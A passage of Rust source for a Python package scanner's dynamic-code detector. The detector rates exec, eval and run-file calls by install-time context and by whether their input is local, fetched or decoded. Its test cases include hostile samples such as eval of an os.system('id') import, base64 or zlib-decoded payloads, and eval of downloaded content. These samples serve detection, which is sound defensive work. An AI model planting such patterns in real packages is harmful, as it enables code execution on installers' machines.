        if patterns.is_empty() || !patterns.iter().all(|(v, _)| COMPILED_LITERAL.is_match(v.trim())) {
            return false;
        }
    }
    let ident = !subject.is_empty() && subject.chars().all(|ch| ch.is_alphanumeric() || ch == '_');
    if ident {
        line_of_local_file(subject, subject, text, at)
    } else {
        !PATH_NOT_LOCAL.is_match(subject) && reads_local_file(subject, text, at, 1)
    }
}

/// Whether `receiver` of the parse `expr` is a line of a file of the package (when the module
/// assigns it; a parameter or a `re.search(…)` receiver is judged by the expression alone).
fn line_of_local_file(receiver: &str, expr: &str, text: &str, at: usize) -> bool {
    let values = if receiver.is_empty() || receiver == "re" || expr.contains('(') && receiver.contains('(') {
        Vec::new()
    } else {
        assigned_values(text, receiver, at)
    };
    values.iter().all(|(v, o)| reads_local_file(v, text, *o, 1))
}

/// Text methods in the middle of a chain (strings blanked), with the `.` that follows:
/// `.strip().`, `.rstrip('').`, `.lower().`.
static INNER_TEXT_METHODS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\.(?:strip|rstrip|lstrip|lower|upper|decode)\(\s*(?:'')?\s*\)\.").expect("inner text methods")
});

/// A split unpacked into names (strings blanked): `line.split('')`, `line.partition('')`, or
/// each part stripped (`(i.strip() for i in line.split(''))`, `map(str.strip, line.split(''))`).
static SPLIT_UNPACK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(?:(?P<recv>\w+)\.(?:split|rsplit|partition|rpartition)\([^()]*\)|[(\[]\s*(?P<v>\w+)\.strip\(\)\s+for\s+(?P<v2>\w+)\s+in\s+(?P<recv2>\w+)\.(?:split|rsplit)\([^()]*\)\s*[)\]]|map\(\s*str\.strip\s*,\s*(?P<recv3>\w+)\.(?:split|rsplit)\([^()]*\)\s*\))$")
        .expect("split unpack")
});

/// What the module assigns to `name` that can reach byte `at`: `name = <value>` (false) and
/// unpackings naming it among other targets, `a, name = <value>` (true); strings blanked.
fn unpacked_values(text: &str, name: &str, at: usize) -> Vec<(String, usize, bool)> {
    let mut out: Vec<(String, usize, bool)> =
        assigned_values(text, name, at).into_iter().map(|(v, o)| (v, o, false)).collect();
    let scope = top_statement_start(text, at);
    for (o, targets, value) in unpackings(text, name) {
        if !text[targets.0..targets.1].contains(',') {
            continue;
        }
        if reaches(text, scope, o) {
            let v = blank_strings(text[value.0..value.1].trim()).into_owned();
            // The generator's item must be its variable: `(i.strip() for i in …)`.
            let v = match SPLIT_UNPACK.captures(&v) {
                Some(m) if m.name("v").is_some_and(|x| Some(x.as_str()) != m.name("v2").map(|y| y.as_str())) => {
                    String::new()
                }
                Some(m) => {
                    let recv = m.name("recv").or(m.name("recv2")).or(m.name("recv3")).expect("receiver").as_str();
                    format!("{recv}.split()")
                }
                None => String::new(),
            };
            out.push((v, o, true));
        }
    }
    out
}

/// One match of the unpacking pattern of [`unpacked_values`]: its line start, the target list's
/// range and the value's range.
type Unpacking = (usize, (usize, usize), (usize, usize));

/// `targets = <value>` at a line start, the targets a comma list of names (perhaps in
/// parentheses), any names (checked after): see [`unpackings`].
static UNPACKED_LINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[ \t]*\(?(?P<t>\w+(?:[ \t]*,[ \t]*\w+)*)\)?[ \t]*=[ \t]*(?P<v>[^\n=][^\n]*)").expect("unpacked line")
});

/// Every match of [`unpacked_pattern`]`(name)` over `text` (line start, target list range,
/// value range), in order. As [`assignments`]: one match per line at most, on lines holding
/// `name`; for a name spelled in ASCII word characters the per-name pattern matches a line
/// exactly where [`UNPACKED_LINE`] does with `name` one of the listed targets (each target is a
/// whole run of word characters), with the same ranges. Any other name is searched with the
/// per-name pattern. Tested equal.
fn unpackings(text: &str, name: &str) -> Vec<Unpacking> {
    if !ascii_word(name) {
        return unpackings_by_pattern(text, name);
    }
    let range = |s: usize, m: regex::Match<'_>| (s + m.start(), s + m.end());
    let mut out = Vec::new();
    for (s, e) in lines_with(text, name) {
        if !binds_before_eq(&text.as_bytes()[s..e], name) {
            continue;
        }
        let Some(c) = UNPACKED_LINE.captures(&text[s..e]) else { continue };
        let t = c.name("t").expect("targets");
        if t.as_str().split(',').any(|n| n.trim_matches([' ', '\t']) == name) {
            out.push((s, range(s, t), range(s, c.name("v").expect("value"))));
        }
    }
    out
}

/// [`unpackings`] by compiling [`unpacked_pattern`]`(name)` and searching the whole text.
fn unpackings_by_pattern(text: &str, name: &str) -> Vec<Unpacking> {
    let Ok(re) = Regex::new(&unpacked_pattern(name)) else { return Vec::new() };
    let range = |m: Option<regex::Match<'_>>| m.map_or((0, 0), |m| (m.start(), m.end()));
    re.captures_iter(text).map(|c| (c.get(0).expect("match").start(), range(c.name("t")), range(c.name("v")))).collect()
}

/// The unpacking pattern of [`unpacked_values`] with `name` spliced in.
fn unpacked_pattern(name: &str) -> String {
    format!(r"(?m)^[ \t]*\(?(?P<t>(?:\w+[ \t]*,[ \t]*)*{name}(?:[ \t]*,[ \t]*\w+)*)\)?[ \t]*=[ \t]*(?P<v>[^\n=][^\n]*)")
}

pub(crate) struct DynamicCode;

impl Detector for DynamicCode {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&["exec", "eval", "compile(", "run_path", "load_source", "SourceFileLoader"])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !file.is_python || file.role == FileRole::TestOrDocs || pysrc::test_member(file) {
            return;
        }
        let src = file.source();
        let sev = Some(if file.role == FileRole::InstallTime { Severity::High } else { Severity::Medium });
        let mut n = 0;
        let _indexed = Indexed::enter(file.text);
        // `CALL.captures_iter(text)`, confirmed only where a call can start.
        let calls = file.exec_call_starts().map(|at| pysrc::find_at_starts(&CALL_AT, file.text, at.iter().copied()));
        for c in calls.into_iter().flatten().filter_map(|(start, _)| CALL.captures_at(file.text, start)) {
            if n >= MAX_HITS_PER_FILE {
                return;
            }
            let name = c.name("name").or(c.name("bname")).or(c.name("py2")).expect("group");
            if !src.is_code(name.start())
                || DEF.is_match(&file.text[pysrc::floor_char(file.text, name.start().saturating_sub(8))..name.start()])
            {
                continue;
            }
            let whole = c.get(0).expect("match");
            // `execfile("x.py")`'s literal is a path, not code: judged below like any file.
            if c.name("py2").is_none() && name.as_str() != "execfile" && literal_argument(src, whole.end()) {
                continue;
            }
            // `compile(src, path, "exec", ast.PyCF_ONLY_AST)` parses (what `ast.parse` does): nothing runs.
            if name.as_str() == "compile"
                && argument_text(file.text, whole.end()).is_some_and(|a| a.contains("PyCF_ONLY_AST"))
            {
                continue;
            }
            n += 1;
            let plain = matches!(name.as_str(), "exec" | "eval" | "compile") && c.name("py2").is_none();
            if name.as_str() == "execfile" && execfile_of_local_path(file.text, whole.end()) {
                let ind = "execfile(local file)".to_string();
                hits.push(
                    &META,
                    Hit { severity: Some(Severity::Low), evidence: pysrc::evidence(file, name.start(), ind) },
                );
                continue;
            }
            if plain && name.as_str() == "eval" && eval_of_parsed_literal(file.text, whole.end()) {
                let ind = "eval(parsed literal)".to_string();
                hits.push(
                    &META,
                    Hit { severity: Some(Severity::Low), evidence: pysrc::evidence(file, name.start(), ind) },
                );
                continue;
            }
            if plain && name.as_str() == "eval" && eval_of_caller_value(file.text, name.start(), whole.end()) {
                let ind = "eval(caller's value, namespace)".to_string();
                hits.push(
                    &META,
                    Hit { severity: Some(Severity::Medium), evidence: pysrc::evidence(file, name.start(), ind) },
                );
                continue;
            }
            if c.name("py2").is_some() && exec_statement_of_local_file(file.text, name.end()) {
                hits.push(
                    &META,
                    Hit {
                        severity: Some(Severity::Low),
                        evidence: pysrc::evidence(file, name.start(), "exec(local file)"),
                    },
                );
                continue;
            }
            if plain && exec_of_local_file(file.text, whole.end()) {
                let ind = format!("{}(local file)", name.as_str());
                hits.push(
                    &META,
                    Hit { severity: Some(Severity::Low), evidence: pysrc::evidence(file, name.start(), ind) },
                );
                continue;
            }
            // In a setup.py command pip never runs (a maintainer's `python setup.py dependencies`,
            // a branch for `publish`): not install-time code, so the runtime Medium.
            if file.role == FileRole::InstallTime
                && (super::context::in_maintainer_command(src, name.start())
                    || super::context::in_argv_command(src, name.start()))
            {
                let ind = format!("{} (in a setup.py command pip never runs)", name.as_str());
                let ev = pysrc::evidence(file, name.start(), ind);
                hits.push(&META, Hit { severity: Some(Severity::Medium), evidence: ev });
                continue;
            }
            hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, name.start(), name.as_str()) });
        }
        // One SIMD pass for the four names ([`RUNS_FILE_WORDS`], built once per process): a
        // general automaton over the four stepped through most bytes (measured slower than
        // `str::contains`); four `memmem` passes cost 1.6 times this one.
        if RUNS_FILE_WORDS.occur_in(file.text.as_bytes()) {
            runs_of_files_by_path(file, sev, &mut n, hits);
        }
    }
}

/// The words every [`RUNS_FILE`] match holds, as one packed searcher ([`super::hits::Words`]): the gate of
/// [`runs_of_files_by_path`].
static RUNS_FILE_WORDS: LazyLock<super::hits::Words> =
    LazyLock::new(|| super::hits::Words::new(&["run_path", "load_source", "SourceFileLoader", "spec_from_file"]));

/// Calls that run the Python file at a path: `runpy.run_path(p)`, `imp.load_source(name, p)`,
/// `importlib.machinery.SourceFileLoader(name, p)`, `importlib.util.spec_from_file_location(name, p)`
/// (then `exec_module`). The path argument's index follows the name.
static RUNS_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:^|[^.\w]|\.)(?P<f>run_path|load_source|SourceFileLoader|spec_from_file_location)\s*\(")
        .expect("runs file")
});

/// `runpy.run_path`, `imp.load_source`, `SourceFileLoader` and `spec_from_file_location` run a
/// file like `execfile`: the package's own file (a version or about module) is not reported,
/// as before; a path outside the sdist's tree (absolute, home, temp, environment, parent, also
/// through the names the path uses), a path from a fetch or input, or a file the module itself
/// downloaded or wrote from decoded bytes, is reported like an exec of built code.
fn runs_of_files_by_path(file: &TextFile<'_>, sev: Option<Severity>, n: &mut usize, hits: &mut Hits) {
    let src = file.source();
    // The same module with its parent-directory literals (`".."`, `"../core"`) made plain, to
    // tell a sibling of the sdist's directory from the other places outside the tree.
    let siblings_plain = std::cell::OnceCell::new();
    for c in RUNS_FILE.captures_iter(file.text) {
        let (f, whole) = (c.name("f").expect("group"), c.get(0).expect("match"));
        if *n >= MAX_HITS_PER_FILE {
            return;
        }
        if !src.is_code(f.start()) || pysrc::is_definition(file.text, f.start()) {
            continue;
        }
        let Some(local) = runs_local_file(file.text, f.as_str(), whole.end()) else { continue };
        if local {
            continue;
        }
        // A monorepo's shared helper beside the package (`os.path.join(here, "..", "core", …)`,
        // with the sdist's own copy as the fallback): pip builds an sdist in a fresh directory,
        // whose parent holds nothing placed before the install. Medium, not High.
        let plain = siblings_plain.get_or_init(|| {
            PARENT_LITERAL.replace_all(file.text, |c: &regex::Captures<'_>| c[0].replace("..", "__")).into_owned()
        });
        let sibling = runs_local_file(plain, f.as_str(), whole.end()) == Some(true);
        let (sev, ind) = if sibling {
            (Some(Severity::Medium), format!("{} (a file beside the sdist's directory)", f.as_str()))
        } else {
            (sev, f.as_str().to_string())
        };
        *n += 1;
        hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, f.start(), ind) });
    }
}

/// A string literal naming a parent directory and nothing else outside the tree: `".."`,
/// `"../core"`, `"x/../y"` (not absolute, home or environment paths).
static PARENT_LITERAL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#""\.\.(?:[\\/][^"\n]*)?"|'\.\.(?:[\\/][^'\n]*)?'"#).expect("parent literal"));

/// For the run-a-file call `f` whose arguments start at `after_paren` in `text`: whether the
/// file it runs is the package's own (`None` when there is no path argument to judge).
fn runs_local_file(text: &str, f: &str, after_paren: usize) -> Option<bool> {
    let args = argument_text(text, after_paren)?;
    let blanked = blank_strings(args);
    let path = if f == "run_path" {
        first_argument(&blanked)
    } else {
        let rest = &blanked[first_argument(&blanked).len()..];
        first_argument(rest.strip_prefix(',').unwrap_or(rest))
    };
    let path = path.trim();
    // `run_path(path=p)`, `spec_from_file_location(name, location=p)`: the keyword's value.
    let path = match path.split_once('=') {
        Some((k, v)) if matches!(k.trim(), "path" | "location" | "pathname") => v.trim(),
        _ => path,
    };
    if path.is_empty() {
        return None;
    }
    Some(
        path_names_local(path, text, after_paren, 0)
            && !path.contains("read")
            && !written_by_module(text, args)
            && !fetched_to(text, args, path),
    )
}

/// Whether the module saves a download to the file a run names: the path's file name as a
/// literal, or the path as one variable, on a line that fetches (`urlretrieve(u, "pkg/_v.py")`)
/// or writes a file (`open(p, "wb")`), in a module that fetches.
fn fetched_to(text: &str, args: &str, path: &str) -> bool {
    if !module_fetches(text) {
        return false;
    }
    let files: Vec<&str> = STRING
        .find_iter(args)
        .map(|m| m.as_str().trim_matches(['"', '\'']).rsplit(['/', '\\']).next().unwrap_or(""))
        .filter(|f| f.len() > 1)
        .collect();
    let name = (!path.is_empty() && path.chars().all(|ch| ch.is_alphanumeric() || ch == '_')).then_some(path);
    text.lines().filter(|l| FETCHES.is_match(l) || WRITES.is_match(l)).any(|l| {
        files.iter().any(|f| l.contains(f))
            || name.is_some_and(|nm| l.split(|ch: char| !(ch.is_alphanumeric() || ch == '_')).any(|w| w == nm))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detector::{call_starts, may_call};

    #[test]
    fn call_search_at_starts_is_the_whole_search() {
        let cases = [
            ("empty", ""),
            ("calls", "exec(code)\nx = eval (s)\ny=compile(a, b, 'exec')"),
            ("builtins", "builtins.exec(c); __builtins__.eval(d); builtins .exec(e)"),
            ("methods and names", "re.compile(p); my_eval(x); evaluate(y); exec_(z); obj.exec(c)"),
            ("python 2 statements", "if x:\n    exec code in ns\n\t exec(c)\n  x; exec y"),
            ("execfile", "execfile('a.py'); execfile (b)"),
            ("across lines", "exec\n(code)\neval  \n  (x)"),
            ("non-ASCII before", "é exec(a) éexec(b) ·eval(c) ſcompile(d)"),
            ("long blank run", &format!("{}exec code", " ".repeat(40))),
            ("adjacent", "exec(eval(compile(a)))"),
        ];
        for (name, text) in cases {
            let whole: Vec<_> = CALL.find_iter(text).map(|m| (m.start(), m.end())).collect();
            assert_eq!(pysrc::find_at_starts(&CALL_AT, text, call_starts(text)), whole, "{name}");
        }
        let pieces =
            ["exec", "eval", "compile", "file", "(", " ", "\t", "\n", ".", "builtins", "__builtins__", "x", "é", ";"];
        let mut found = 0;
        for text in super::pysrc::random_texts(&pieces, 30, 0x9e37_79b9_7f4a_7c15u64, 4000) {
            let whole: Vec<_> = CALL.find_iter(&text).map(|m| (m.start(), m.end())).collect();
            found += whole.len();
            assert_eq!(pysrc::find_at_starts(&CALL_AT, &text, call_starts(&text)), whole, "{text:?}");
        }
        assert!(found > 300, "the random texts hold calls: {found}");
    }

    /// The per-line searches with one static pattern give exactly the matches of the per-name
    /// patterns they replace (`assigned_values`, `unpacked_values`, `helper_reads_local_file`).
    #[test]
    fn line_searches_are_the_per_name_searches() {
        let cases = [
            ("assignment", "code = open(p).read()\nexec(code)\n", "code"),
            ("indented, tabs", "def f():\n\t  code\t=\t g()\n", "code"),
            ("for loop", "for line in open('v.py'):\n    pass\n", "line"),
            ("for loop with the name as the iterable", "for x in line:\n", "line"),
            ("longer names", "codes = 1\nmycode = 2\ncode_x = 3\n", "code"),
            ("comparison, not assignment", "code == 1\ncode =\ncode = = 2\n", "code"),
            ("keyword as the name", "for for in x:\nfor = 1\nfor x in for:\n", "for"),
            ("unpacking", "name, value = line.split('=')\n(a, value) = t\nvalue, = x\n", "value"),
            ("unpacking without the name", "a, b = 1, 2\nvalue_b, c = 3\n", "value"),
            ("definitions", "def read(*parts):\n    return 1\n  def read (x):\ndef reader(x):\n", "read"),
            ("non-ASCII word around the name", "éline = 1\nlineé = 2\nfor lineé in x:\n", "line"),
            ("non-ASCII name", "ĉode = 1\nfor ĉode in f:\n", "ĉode"),
            ("the name many times on a line", "code = code + code\n", "code"),
            ("no newline at the end", "x=1\ncode = 2", "code"),
            ("attribute, subscript, annotation", "self.code = 1\nx[code] = 2\ncode: int = 3\ncode[0] = 4\n", "code"),
            ("augmented and walrus", "code += 1\nif (code := f()):\ncode -= 2\n", "code"),
            ("the name after the first =", "x = code = 1\ny = (code, z) = t\n", "code"),
            ("a call holding the name", "print(code)\nf(code=1)\n  for_code = 1\n", "code"),
            ("keyword arguments before the name", "x(a=1); code = 2\n", "code"),
            ("form feed indentation", "\x0ccode = 1\n\x0cfor code in f:\n", "code"),
            ("non-ASCII targets", "é, code = t\n(code, ĉ) = u\nfor code in é:\n", "code"),
            ("the name inside longer targets", "codes = 1\nmy_code, code2 = t\n(xcode) = 3\n", "code"),
            ("non-ASCII symbols next to the name", "·code = 1\ncode· = 2\n→code, x = t\n", "code"),
            ("for without a blank", "for(code) in x:\nforcode = 1\n\tfor\tcode\tin\tx:\n", "code"),
        ];
        for (case, text, name) in cases {
            assert_eq!(*assignments(text, name), *assignments_by_pattern(text, name), "{case}: assignments");
            assert_eq!(unpackings(text, name), unpackings_by_pattern(text, name), "{case}: unpackings");
            assert_eq!(helper_def(text, name), helper_def_by_pattern(text, name), "{case}: def");
        }
        let pieces = [
            "code",
            "x",
            "for ",
            " in ",
            "def ",
            " ",
            "\t",
            "\n",
            "=",
            ", ",
            "(",
            ")",
            ":",
            "é",
            "_",
            "1",
            "'s'",
            "\ncode = ",
            "\nx, code = ",
            "\n  (code, x) = ",
            "\ndef code(",
            "\nfor code in ",
            "\n\tdef x (",
            ".",
            "[",
            "]",
            "+=",
            "==",
            ":=",
            "\x0c",
            "self.",
            "\ncode.x = ",
            "\nx[code] = ",
            "codes",
            "·",
        ];
        let mut found = [0usize; 3];
        for text in super::pysrc::random_texts(&pieces, 24, 0x2545_f491_4f6c_dd1d, 2_000) {
            for name in ["code", "x", "for"] {
                let a = assignments(&text, name);
                assert_eq!(*a, *assignments_by_pattern(&text, name), "{text:?} {name}: assignments");
                let u = unpackings(&text, name);
                assert_eq!(u, unpackings_by_pattern(&text, name), "{text:?} {name}: unpackings");
                let d = helper_def(&text, name);
                assert_eq!(d, helper_def_by_pattern(&text, name), "{text:?} {name}: def");
                found[0] += a.len();
                found[1] += u.iter().filter(|(_, t, _)| text[t.0..t.1].contains(',')).count();
                found[2] += usize::from(d.is_some());
            }
        }
        assert!(found.iter().all(|&n| n > 100), "the random texts hold each kind of match: {found:?}");
    }

    /// The per-call searches without a compiled pattern give exactly the matches of the
    /// per-name patterns they replace (`eval_of_caller_value`, `opened_in_module`,
    /// `lambda_reads_local_file`).
    #[test]
    fn per_call_searches_are_the_per_name_patterns() {
        // The per-name patterns, compiled once per name: the searches' definition.
        struct Oracle {
            calls: Regex,
            literal: Regex,
            opens: Regex,
            lambda: Regex,
            closes: Regex,
        }
        let oracle = |name: &str| Oracle {
            calls: Regex::new(&calls_pattern(name)).expect("calls"),
            literal: Regex::new(&literal_pattern(name)).expect("literal"),
            opens: Regex::new(&opens_pattern(name)).expect("opens"),
            lambda: Regex::new(&lambda_pattern(name)).expect("lambda"),
            closes: Regex::new(&closes_as_pattern(name)).expect("as"),
        };
        let cases = [
            ("calls and the def", "def mark(v):\n    eval(v, ns)\nmark(m)\nx = mark (y)\n", "mark"),
            ("attribute and longer names", "o.mark(a); remark(b); mark_(c); _mark(d)\n", "mark"),
            ("def with blanks and tabs", "def\t mark(v): pass\n  def  mark (w):\n", "mark"),
            ("at the start of the text", "mark(a)", "mark"),
            ("nested calls", "mark(mark(a))\nf(mark(b), mark(c))\n", "mark"),
            ("non-ASCII before", "émark(a) ·mark(b) ſmark(c) → def mark(d)\n", "mark"),
            ("def inside a word", "undef mark(a); xdef mark(b); .def mark(c)\n", "mark"),
            ("no parenthesis", "mark = 1\nmark\n(a)\nmark  \n (b)\n", "mark"),
            ("literal assignments", "m = 'x'\n  m = rb\"y\"\n\tm\t=\tf'z'\nm = ur'w'\nm = bru'v'\n", "m"),
            ("not literals", "m = x\nm == 'a'\nx.m = 'b'\nm2 = 'c'\n  # m = 'd'\n", "m"),
            ("dotted name", "a.b = 'x'\naxb = 'y'\n", "a.b"),
            ("with open", "with open(p) as f:\nwith io.open(p, 'r') as f, open(q) as g:\n", "f"),
            ("name = open", "f = open(p)\nf=io.open(p)\nf = codecs.open(p)\nf = io.codecs.open(p)\n", "f"),
            ("open after a word", "xf = open(p)\n_f = open(q)\néf = open(r)\n·f = open(s)\n", "f"),
            ("with and name mixed", "with f = open(p)\nwith x.open(f = open(q)) as f:\n", "f"),
            ("as clauses", ") as f:\n)  as\tf ,\n)as f:\n) as fx:\n) as f", "f"),
            ("lambdas", "read = lambda *p: open(p).read()\n  read=lambda:1\nread = lambdax: 2\n", "read"),
            ("lambda without a colon", "read = lambda p\nread = lambda q: 1\n", "read"),
            ("lambda after a non-ASCII word", "read = lambdaé: 1\nread = lambda·: 2\n", "read"),
            ("non-ASCII name", "ĉ = open(p)\nĉ(a)\nĉ = 'x'\nĉ = lambda: 1\n", "ĉ"),
            ("the name def", "def def(a)\ndef(b)\n", "def"),
            ("the name with", "with = open(p)\nwith open(q) as with:\n", "with"),
        ];
        let check = |text: &str, name: &str, o: &Oracle, case: &str| -> [usize; 5] {
            let calls = calls_of(text, name);
            let want: Vec<_> =
                o.calls.captures_iter(text).map(|c| (c.get(0).expect("m").end(), c.name("def").is_some())).collect();
            assert_eq!(calls, want, "{case}: calls of {name:?} in {text:?}");
            let lit = literal_targets(text).contains(name);
            assert_eq!(lit, o.literal.is_match(text), "{case}: literal {name:?} in {text:?}");
            let opens = opens_of(text, name);
            let want: Vec<_> = o
                .opens
                .captures_iter(text)
                .map(|c| {
                    let m = c.get(0).expect("m");
                    (m.start(), m.end(), c.name("with").is_some())
                })
                .collect();
            assert_eq!(opens, want, "{case}: opens of {name:?} in {text:?}");
            let l = lambda_of(text, name);
            assert_eq!(l, o.lambda.find(text).map(|m| m.end()), "{case}: lambda {name:?} in {text:?}");
            let mut as_ = 0;
            for (i, _) in text.match_indices(')') {
                let c = closes_as(&text[i..], name);
                assert_eq!(c, o.closes.is_match(&text[i..]), "{case}: as {name:?} in {:?}", &text[i..]);
                as_ += usize::from(c);
            }
            [calls.len(), usize::from(lit), opens.len(), usize::from(l.is_some()), as_]
        };
        for (case, text, name) in cases {
            check(text, name, &oracle(name), case);
        }
        let pieces = [
            "mark",
            "f",
            "def",
            "def ",
            " ",
            "\t",
            "\n",
            "(",
            ")",
            ".",
            "=",
            " = ",
            "'",
            "\"",
            "r",
            "b",
            "é",
            "·",
            "x",
            "_",
            ",",
            ":",
            "with ",
            "open",
            "io.",
            "codecs.",
            " as ",
            "lambda",
            "lambda ",
            "\u{a0}",
            "\u{2003}",
            "\nf = ",
            "\n  mark = ",
            "\n\tf=",
            ") as f:",
            "\nwith open(",
            "\nf = lambda ",
            "def mark(",
            "mark(",
            "f(",
        ];
        let oracles: Vec<_> = ["mark", "f", "def", "with", "x.f"].into_iter().map(|n| (n, oracle(n))).collect();
        let mut found = [0usize; 5];
        for text in super::pysrc::random_texts(&pieces, 30, 0x51_7cc1_b727_220a, 6_000) {
            for (name, o) in &oracles {
                let n = check(&text, name, o, "random");
                found.iter_mut().zip(n).for_each(|(a, b)| *a += b);
            }
        }
        assert!(found.iter().all(|&n| n > 100), "the random texts hold each kind of match: {found:?}");
    }

    #[test]
    fn call_gate_never_hides_a_match() {
        let cases = [
            ("exec call", "exec(code)", true),
            ("eval after a blank", "x = eval (s)", true),
            ("builtins", "builtins.exec(c)", true),
            ("dunder builtins", "__builtins__.eval(c)", true),
            ("python 2 statement", "if x:\n    exec code in ns", true),
            ("execfile", "execfile('a.py')", true),
            ("after a non-ASCII letter", "é_eval(x)", false),
            ("after a non-ASCII symbol", "x=\u{00b7}eval(x)", true),
            ("re.compile", "P = re.compile(r'x')", false),
            ("method", "df.eval('a + b')", false),
            ("inside a name", "my_exec(x); re_evaluate(y); recompile()", false),
        ];
        for (case, text, want) in cases {
            assert_eq!(may_call(text), want, "{case}");
            if !want {
                assert!(CALL.find(text).is_none(), "{case}: the gate hid a match");
            }
        }
    }
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn cases() {
        table(
            &DynamicCode,
            META.id,
            &[
                ("exec of a name", "pkg/a.py", Runtime, "code = get()\nexec(code)\n", Some((2, "exec", Medium))),
                (
                    "a version read from a slice of a line of the package's file",
                    "setup.py",
                    InstallTime,
                    "def getversion(fname):\n    for line in open(fname):\n        if line.startswith('__version__'):\n            return eval(line[13:])\n",
                    Some((4, "eval(parsed literal)", Low)),
                ),
                (
                    "a slice of a line of standard input stays high",
                    "setup.py",
                    InstallTime,
                    "for line in sys.stdin:\n    eval(line[3:])\n",
                    Some((2, "eval", High)),
                ),
                (
                    "an environment marker from setup.cfg evaluated in a namespace",
                    "setup.py",
                    InstallTime,
                    "def eval_marker(value):\n    value = value.strip()\n    variables = {'python_version': '3.11', 'sys': M(platform=sys.platform)}\n    return bool(eval(value, variables, variables))\n\ndef opt(cfg, key):\n    v = cfg.get('metadata', key)\n    v, marker = v.rsplit(';', 1)\n    if eval_marker(marker):\n        return v\n",
                    Some((4, "eval(caller's value, namespace)", Medium)),
                ),
                (
                    "the marker evaluator handed a literal stays high",
                    "setup.py",
                    InstallTime,
                    "def eval_marker(value):\n    value = value.strip()\n    variables = {'python_version': '3.11', 'sys': M(platform=sys.platform)}\n    return bool(eval(value, variables, variables))\n\neval_marker(\"__import__('os').system('id')\")\n",
                    Some((4, "eval", High)),
                ),
                (
                    "the marker evaluator handed a name that holds a literal stays high",
                    "setup.py",
                    InstallTime,
                    "def eval_marker(value):\n    value = value.strip()\n    variables = {'python_version': '3.11', 'sys': M(platform=sys.platform)}\n    return bool(eval(value, variables, variables))\n\nmarker = '__import__(\"os\").system(\"id\")'\neval_marker(marker)\n",
                    Some((4, "eval", High)),
                ),
                (
                    "the marker evaluator handed a decoded value stays high",
                    "setup.py",
                    InstallTime,
                    "def eval_marker(value):\n    value = value.strip()\n    variables = {'python_version': '3.11', 'sys': M(platform=sys.platform)}\n    return bool(eval(value, variables, variables))\n\neval_marker(base64.b64decode(blob))\n",
                    Some((4, "eval", High)),
                ),
                (
                    "the marker evaluator in a file that downloads stays high",
                    "setup.py",
                    InstallTime,
                    "def eval_marker(value):\n    value = value.strip()\n    variables = {'python_version': '3.11', 'sys': M(platform=sys.platform)}\n    return bool(eval(value, variables, variables))\n\nmarker = urlopen(u).read()\neval_marker(marker)\n",
                    Some((4, "eval", High)),
                ),
                (
                    "eval of a parameter without a namespace stays high",
                    "setup.py",
                    InstallTime,
                    "def run(value):\n    return eval(value)\n\nrun(marker)\n",
                    Some((2, "eval", High)),
                ),
                (
                    "eval of concatenation in setup.py",
                    "setup.py",
                    InstallTime,
                    "eval('__import__(\"os\")' + x)\n",
                    Some((1, "eval", High)),
                ),
                (
                    "compile of a received text",
                    "pkg/a.py",
                    Runtime,
                    "c = compile(resp.text, p, 'exec')\n",
                    Some((1, "compile", Medium)),
                ),
                ("f-string", "pkg/a.py", Runtime, "eval(f\"{a}+{b}\")\n", Some((1, "eval", Medium))),
                ("builtins.exec", "pkg/a.py", Runtime, "builtins.exec(s)\n", Some((1, "builtins.exec", Medium))),
                (
                    "python 2 exec statement",
                    "pkg/a.py",
                    Runtime,
                    "def f():\n    exec code in ns\n",
                    Some((2, "exec", Medium)),
                ),
                ("literal", "pkg/a.py", Runtime, "x = eval('1 + 1')\n", None),
                ("method", "pkg/a.py", Runtime, "model.eval()\np = re.compile(r'x')\n", None),
                ("literal_eval", "pkg/a.py", Runtime, "ast.literal_eval(s)\n", None),
                ("definition", "pkg/a.py", Runtime, "def eval(self, x):\n    pass\n", None),
                ("in docstring", "pkg/a.py", Runtime, "\"\"\"Never exec(code).\"\"\"\n", None),
                ("tests", "pkg/tests/test_a.py", Runtime, "exec(code)\n", None),
                (
                    "setup.py version idiom: open().read()",
                    "setup.py",
                    InstallTime,
                    "exec(open(\"h11/_version.py\").read())\n",
                    Some((1, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: with open as fp",
                    "setup.py",
                    InstallTime,
                    "version = {}\nwith open(os.path.join(here, 'pkg', 'version.py')) as fp:\n    exec(fp.read(), version)\n",
                    Some((3, "exec(local file)", Low)),
                ),
                (
                    "setup.py version idiom: bytes read, decoded as UTF-8",
                    "setup.py",
                    InstallTime,
                    "about = {}\nwith open(os.path.join(here, 'pkg', '__version__.py'), mode='rb') as f:\n    exec(f.read().decode('utf-8'), about)\n",
                    Some((3, "exec(local file)", Low)),
                ),
                (
                    "a local file decoded with a codec that unpacks stays high",
                    "setup.py",
                    InstallTime,
                    "with open('pkg/data.bin', 'rb') as f:\n    exec(f.read().decode('base64'))\n",
                    Some((2, "exec", High)),
                ),
                (
                    "setup.py version idiom: a helper compiling the file, line endings normalised",
                    "setup.py",
                    InstallTime,
                    "def read_python_code(filename):\n    file = open(filename, 'rt')\n    try:\n        source = file.read()\n    finally:\n        file.close()\n    # exec() and compile() need '\\n' line ends\n    source = source.replace('\\r\\n', '\\n').replace('\\r', '\\n')\n    return compile(source, filename, 'exec')\n\nexec(read_python_code(os.path.join(here, 'pkg', 'version.py')))\n",
                    Some((9, "compile(local file)", Low)),
                ),
                (
                    "a helper compiling a file it also decodes stays high",
                    "setup.py",
                    InstallTime,
                    "def load(filename):\n    source = open(filename).read()\n    source = zlib.decompress(source)\n    return compile(source, filename, 'exec')\n\nexec(load(os.path.join(here, 'pkg', 'blob')))\n",
                    Some((4, "compile", High)),
                ),
                (
                    "setup.py version idiom: eval of the last word of a line",
                    "setup.py",
                    InstallTime,
                    "def grep_version():\n    with open(path) as fp:\n        for line in fp:\n            if line.startswith('__version__'):\n                return eval(line.split()[-1])\n",
